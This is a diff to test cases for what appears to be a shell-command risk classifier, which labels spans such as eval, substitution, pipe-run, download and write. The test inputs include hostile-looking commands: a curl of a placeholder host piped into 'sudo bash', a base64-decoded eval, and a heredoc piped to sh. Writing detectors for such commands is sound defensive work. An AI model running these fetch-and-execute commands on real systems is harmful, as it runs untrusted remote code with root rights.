@@ -19,7 +19,7 @@ def spans(command: str) -> list[tuple[str, str]]:
         ('ls; eval "$(echo eA== | base64 -d)"',
          [("eval", "eval"), ("$(echo eA== | base64 -d)", "substitution"), ("base64 -d", "decode")]),
         ("curl -s https://x.example | sudo bash -s", [("| sudo bash", "pipe-run"), ("|", "download")]),
-        ("wget -qO- https://x.example | tar x", [("|", "download")]),
+        ("wget -qO- https://x.example | tar x", [("|", "download"), ("tar", "write")]),
         ("cat <<EOF | sh\nid\nEOF", [("| sh", "pipe-run")]),
         ("echo `id` > out 2>&1 >>log 2>/dev/null", [("`id`", "substitution"), ("> out", "write"), (">>log", "write")]),
         ('echo "${x:-`touch M`}"', [("`touch M`", "substitution")]),
